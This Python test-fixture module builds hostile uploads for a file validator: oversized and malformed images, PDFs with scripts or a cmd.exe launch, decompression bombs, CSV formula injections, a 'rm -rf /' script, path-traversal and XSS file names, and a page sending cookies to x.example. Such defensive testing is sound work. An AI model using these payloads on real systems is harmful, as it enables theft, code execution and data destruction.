"""Hostile pictures, PDF files, plain tables, parquet files and what is none of them."""

from __future__ import annotations

import io
import zlib

import pyarrow as pa
import pyarrow.parquet

from hutong.domains.exchange.tests import files as lists
from hutong.domains.exchange.tests.files import DEATHS, death
from hutong.foundation.documents.tests.files import jpeg, pdf, pdf_hiding, png, webp

from .books import noise
from .cases import HARMLESS, MENDED, Case, book, zipped

MEGABYTE = 2**20
PHOTO, PAPER, TABLE, COLUMNS = "照片.jpg", "判决书.pdf", "清单.csv", "清单.parquet"
PAGE = b"<html><script>fetch('//x.example/'+document.cookie)</script></html>"


def csv(*rows: list[str], header: list[str] | None = None, encoding: str = "utf-8") -> bytes:
    return lists.csv(header or DEATHS, list(rows), encoding)


def named(name: str) -> bytes:
    return csv(death(1), death(2, 姓名=name))


def object_stream(body: bytes, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    head = b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 " + filters + b" >>\nstream\n"
    return b"%PDF-1.7\n" + head + body + b"\nendstream\nendobj\n%%EOF\n"


def around(inside: bytes) -> bytes:
    return b"%PDF-1.7\n" + inside + b"\n%%EOF\n"


def parquet(table: pa.Table) -> bytes:
    sink = io.BytesIO()
    pyarrow.parquet.write_table(table, sink, store_schema=False)
    return sink.getvalue()


def honest_parquet() -> bytes:
    return lists.parquet(DEATHS, [death(n) for n in range(1, 4)])


def wide_parquet() -> bytes:
    return parquet(pa.table({f"c{n}": ["x"] for n in range(5000)}))


def repeated_parquet() -> bytes:
    """A few hundred kilobytes that become gigabytes: one long text, repeated by reference."""
    long = pa.array(["柳" * 300_000])
    return parquet(
        pa.table(
            dict.fromkeys(DEATHS, pa.DictionaryArray.from_arrays(pa.array([0] * 20_000, pa.int32()), long))
        )
    )


def deep_parquet() -> bytes:
    value: object = 1
    kind = pa.int64()
    for _ in range(60):
        value, kind = [value], pa.list_(kind)
    return parquet(pa.table({"姓名": pa.array([value], kind)}))


def absurd_footer(length: int) -> bytes:
    return honest_parquet()[:-8] + length.to_bytes(4, "little") + b"PAR1"


def blotted(content: bytes) -> bytes:
    return content[:-300] + b"\xff" * 200 + content[-100:]


PICTURES = (
    Case("PNG of 3.6 gigapixels", lambda: png(60_000, 60_000), PHOTO),
    Case("JPEG of 4.3 gigapixels", lambda: jpeg(65_535, 65_535), PHOTO),
    Case("WebP of 268 megapixels", lambda: webp(16_383, 16_383), PHOTO),
    Case("PNG without width", lambda: png(0, 4), PHOTO),
    Case("PNG of two billion by one", lambda: png(2**31 - 1, 1), PHOTO),
    Case("JPEG without a frame", lambda: b"\xff\xd8\xff\xe0\x00\x10" + bytes(14) + b"\xff\xd9", PHOTO),
    Case("JPEG of empty segments", lambda: b"\xff\xd8\xff" + b"\xe0\x00\x00" * 300_000, PHOTO),
    Case("JPEG of fill bytes", lambda: b"\xff\xd8" + b"\xff" * (3 * MEGABYTE), PHOTO),
    Case("PNG with a chunk of 4 GB", lambda: png()[:33] + b"\xff\xff\xff\xffIDAT" + bytes(50), PHOTO),
    Case("cut JPEG", lambda: jpeg()[:-2], PHOTO),
    Case("cut PNG", lambda: png()[:-12], PHOTO),
    Case("cut WebP", lambda: webp()[:-6], PHOTO),
    Case("GIF that is a script", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "图.gif"),
    Case("BMP", lambda: b"BM" + bytes(60), "图.bmp"),
    Case("TIFF", lambda: b"II*\x00" + bytes(60), "图.tif"),
    Case("HEIC", lambda: bytes(4) + b"ftypheic" + bytes(60), "图.heic"),
    Case("icon", lambda: b"\x00\x00\x01\x00" + bytes(60), "图.ico"),
    Case("JPEG with a page behind it", lambda: jpeg() + PAGE, PHOTO, documents=MENDED),
    Case("JPEG with a workbook behind it", lambda: jpeg() + book(), PHOTO, documents=MENDED),
    Case("PNG with a package behind it", lambda: png() + zipped({"a.js": "alert(1)"}), PHOTO, documents=MENDED),
    Case("WebP with a page behind it", lambda: webp() + PAGE, PHOTO, documents=MENDED),
    Case("JPEG that says it is a table", jpeg, TABLE, documents=MENDED),
)  # fmt: skip

PAPERS = (
    Case("PDF with script", lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), PAPER),
    Case("PDF with script in disguise", lambda: pdf(b"/OpenAction << /S /#4a#61vaScr#69pt >>"), PAPER),
    Case("PDF that starts a program", lambda: pdf(b"/A << /S /Launch /F (cmd.exe) >>"), PAPER),
    Case("PDF with a file inside", lambda: pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), PAPER),
    Case("PDF with a form of XML", lambda: pdf(b"/AcroForm << /XFA 3 0 R >>"), PAPER),
    Case("PDF with a film", lambda: pdf(b"/Subtype /RichMedia"), PAPER),
    Case("PDF that sends a form", lambda: pdf(b"/S /SubmitForm /F (http://x.example/)"), PAPER),
    Case("script in an object stream", lambda: pdf_hiding(b"/S /JavaScript"), PAPER),
    Case("object stream behind a rare filter", lambda: object_stream(b"2F4A53>", b"/Filter /ASCIIHexDecode"), PAPER),
    Case("object stream with two filters", lambda: object_stream(zlib.compress(b"x"), b"/Filter [/ASCII85Decode /FlateDecode]"), PAPER),
    Case("object stream with a predictor", lambda: object_stream(zlib.compress(b"x"), b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"), PAPER),
    Case("object stream far from its dictionary", lambda: around(b"4 0 obj << /Type /ObjStm >>" + b" " * 9000 + b"stream\nx\nendstream"), PAPER),
    Case("object stream that is a bomb", lambda: object_stream(zlib.compress(bytes(80 * MEGABYTE), 9)), PAPER),
    Case("script in a stream nobody closes", lambda: around(b"1 0 obj << >> stream\n/S /JavaScript"), PAPER),
    Case("script behind a false stream", lambda: around(b"(<< >>stream\n) /S /JavaScript /JS (x) (endstream)"), PAPER),
    Case("PDF of brackets", lambda: around(b"<<" * (4 * MEGABYTE) + b" /S /JavaScript"), PAPER),
    Case("PDF of streams", lambda: around(b">>stream\n" * MEGABYTE + b" /S /JavaScript"), PAPER),
    Case("PDF of escapes", lambda: around(b"#41" * (5 * MEGABYTE) + b" /S /JavaScript"), PAPER),
    Case("PDF with a password", lambda: pdf(b"/Encrypt 9 0 R"), PAPER),
    Case("cut PDF", lambda: pdf()[:-8], PAPER),
    Case("PDF that is a package too", lambda: pdf() + zipped({"a.js": "alert(1)"}) + b"", PAPER),
    Case("PDF with a package in a stream", lambda: around(b"1 0 obj << >>\nstream\n" + zipped({"a.js": "x"}) + b"\nendstream"), PAPER),
    Case("PDF whose package has %%EOF for a comment", lambda: pdf() + zipped({"a.js": "x"})[:-2] + b"\x06\x00%%EOF\n", PAPER),
)  # fmt: skip

TABLES = (
    Case("empty", lambda: b"", TABLE),
    Case("one byte", lambda: b"\x00", TABLE),
    Case("spaces", lambda: b" \r\n" * 300, TABLE, documents=HARMLESS, why="a text of nothing"),
    Case("header only", csv, TABLE, documents=HARMLESS, why="a text of one line"),
    Case("NUL in a cell", lambda: named("石\x00国"), TABLE),
    Case("NUL far behind", lambda: csv(*[death(n % 900 + 1) for n in range(3000)]) + b"\x00", TABLE),
    Case("one line of 60 MB", lambda: csv(death(1)) + b"\r\n" + b"a" * (60 * MEGABYTE), TABLE),
    Case("a line of 3 MB", lambda: named("石" * MEGABYTE), TABLE),
    Case("a header of 3 MB", lambda: b"a" * (3 * MEGABYTE) + b"\n1", TABLE),
    Case("a million columns", lambda: b"a," * MEGABYTE + b"\n1", TABLE),
    Case("300 columns", lambda: (",".join([*DEATHS, *(f"c{n}" for n in range(300))]) + "\n1").encode(), TABLE, documents=HARMLESS, why=""),
    Case("600,000 rows", lambda: csv() + b"\r\n1,2" * 600_000, TABLE, documents=HARMLESS, why="text within 20 MB"),
    Case("mark of UTF-8, then GB18030", lambda: b"\xef\xbb\xbf" + csv(encoding="utf-8") + b"\r\n" + ",".join(death(1)).encode("gb18030"), TABLE),
    Case("UTF-8, then half a character", lambda: csv(death(1)) + b"\r\n\xff\xff\xff\xff", TABLE),
    Case("UTF-16", lambda: csv(death(1)).decode().encode("utf-16"), TABLE),
    Case("UTF-32", lambda: csv(death(1)).decode().encode("utf-32"), TABLE),
    Case("noise", lambda: noise(5000), TABLE),
    Case("the mark on every line", lambda: csv(death(1), death(2)).replace(b"\r\n", b"\r\n\xef\xbb\xbf"), TABLE, documents=HARMLESS, exchange=MENDED, why="text"),
    Case("a quote nobody closes", lambda: csv(death(1), death(2, 姓名='"石建国')), TABLE, documents=HARMLESS, why="text", exchange=MENDED),
    Case("two million quotes", lambda: csv(death(1)) + b"\r\n" + b'"' * 900_000, TABLE, documents=HARMLESS, exchange=MENDED, why="text"),
    Case("one header twice", lambda: csv([*death(1), "x"], header=[*DEATHS, "姓名"]), TABLE, documents=HARMLESS, why="text"),
    Case("cells of 200 KB", lambda: named("石" * 66_000), TABLE, documents=HARMLESS, exchange=MENDED, why="text"),
    Case("old line ends", lambda: csv(death(1), death(2)).replace(b"\r\n", b"\r"), TABLE, documents=HARMLESS, why="text"),
    Case("cell that starts a program", lambda: named("=cmd|' /C calc'!A0"), TABLE, exchange=MENDED),
    Case("cell that starts a program, with a plus", lambda: named("+cmd|' /C calc'!A0"), TABLE, exchange=MENDED),
    Case("cell that starts a program, with an at sign", lambda: named("@SUM(1)|x!A0"), TABLE, exchange=MENDED),
    Case("cell that sends others away", lambda: named('=HYPERLINK("http://x.example/"&A1)'), TABLE, exchange=MENDED),
    Case("cell that calls a service", lambda: named("-WEBSERVICE(A1)"), TABLE, exchange=MENDED),
    Case("full-width equals sign", lambda: named("＝cmd|x!A0"), TABLE, exchange=MENDED),
    Case("header that is a formula", lambda: csv([*death(1), "x"], header=[*DEATHS, "=cmd|x!A0"]), TABLE, exchange=MENDED),
    Case("page called a table", lambda: b"<html><table><tr><td>1</td></tr></table></html>", TABLE),
    Case("page behind a table", lambda: csv(death(1)) + b"\r\n" + PAGE, TABLE, exchange=MENDED),
    Case("saved page", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", "清单.xls"),
)  # fmt: skip

BINARIES = (
    Case("parquet of its name only", lambda: b"PAR1", COLUMNS),
    Case("cut parquet", lambda: honest_parquet()[:-40], COLUMNS),
    Case("parquet with a footer of 4 GB", lambda: absurd_footer(2**32 - 1), COLUMNS),
    Case("parquet with a footer of nothing", lambda: absurd_footer(0), COLUMNS),
    Case("parquet with a changed footer", lambda: blotted(honest_parquet()), COLUMNS),
    Case("parquet with a locked footer", lambda: honest_parquet()[:-4] + b"PARE", COLUMNS),
    Case("parquet of 5,000 columns", wide_parquet, COLUMNS),
    Case("parquet of one text repeated", repeated_parquet, COLUMNS),
    Case("parquet of lists in lists", deep_parquet, COLUMNS),
    Case("program", lambda: b"MZ\x90\x00" + bytes(500), "清单.xlsx"),
    Case("program of Linux", lambda: b"\x7fELF" + bytes(500), "清单.xlsx"),
    Case("gzip", lambda: b"\x1f\x8b\x08" + noise(500), "清单.gz"),
    Case("7z", lambda: b"7z\xbc\xaf\x27\x1c" + noise(500), "清单.7z"),
    Case("rar", lambda: b"Rar!\x1a\x07\x00" + noise(500), "清单.rar"),
    Case("xz", lambda: b"\xfd7zXZ\x00" + noise(500), "清单.xz"),
    Case("RTF with an object", lambda: b"{\\rtf1{\\object\\objdata 0105}}", "报告.doc"),
    Case("script", lambda: b"#!/bin/sh\nrm -rf /\n", TABLE),
    Case("shortcut", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(90), "清单.lnk"),
)  # fmt: skip

NAMES = (
    Case("name that leaves the folder", lambda: csv(death(1)), "../../../etc/passwd", documents=MENDED, exchange=MENDED),
    Case("name of Windows", lambda: csv(death(3)), "C:\\Windows\\system32\\清单.csv", documents=MENDED, exchange=MENDED),
    Case("name of 3,000 characters", lambda: csv(death(4)), "长" * 3000 + ".csv", documents=MENDED, exchange=MENDED),
    Case("name that turns the reading direction", lambda: csv(death(5)), "清单\u202efdp.csv", documents=MENDED, exchange=MENDED),
    Case("name with markup", lambda: csv(death(6)), '"><img src=x onerror=alert(1)>.csv', documents=MENDED, exchange=MENDED),
    Case("name with line ends", lambda: csv(death(7)), "清单\r\nSet-Cookie: x=1.csv", documents=MENDED, exchange=MENDED),
)  # fmt: skip
